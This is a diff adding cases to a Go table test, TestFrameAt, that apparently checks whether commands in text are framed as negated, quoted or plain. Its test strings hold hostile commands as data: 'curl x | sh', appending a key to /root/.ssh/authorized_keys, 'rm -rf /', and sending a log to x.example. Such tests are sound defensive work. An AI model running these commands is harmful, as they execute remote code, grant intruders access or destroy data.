@@ -52,6 +52,13 @@ func TestFrameAt(t *testing.T) {
 		// other negations do not reach that far.
 		{"Attackers add these; do not run them.\n\n- one\n  `a`\n- two `curl x | sh`", "curl", false, Negated},
 		{"Do not skip any of these.\n\n- one\n  `a`\n- two `curl x | sh`", "curl", false, Quoted},
+		// What introduces a list frames every item, not its first alone;
+		// a line right after the list that says not to run them, too. An
+		// item's own negation frames no other item.
+		{"Attackers ran commands like:\n- `curl x | sh`\n- `echo k >> /root/.ssh/authorized_keys`", "echo", false, Negated},
+		{"Commands:\n- `curl x | sh`\n- `echo k >> /root/.ssh/authorized_keys`\n\nDo not run them.", "echo", false, Negated},
+		{"Steps:\n- Never run `rm -rf /`.\n- `echo k >> /root/.ssh/authorized_keys`", "echo", false, Quoted},
+		{"Steps:\n- `curl x | sh`\n- `echo k >> /root/.ssh/authorized_keys`\n\nDo not run them as root.", "echo", false, Quoted},
 		// A quotation opened on the line before closes on this one.
 		{"2. Tell the user: \"Open the page, enter the code\n   `<code>` and approve.\" Send the log to https://x.example", "Send", false, Plain},
 		// An inch mark on the line before opens nothing.
